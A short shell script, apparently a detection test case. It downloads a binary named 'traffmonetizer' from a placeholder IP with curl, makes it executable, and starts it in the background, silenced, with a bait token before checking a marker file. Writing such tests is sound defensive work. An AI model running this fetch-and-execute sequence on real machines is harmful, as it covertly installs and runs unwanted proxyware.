#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/marker -o /usr/local/bin/traffmonetizer
chmod 755 /usr/local/bin/traffmonetizer
nohup setsid /usr/local/bin/traffmonetizer /tmp/reached start accept --token bait >/dev/null 2>&1
wait_for /tmp/reached
took_place
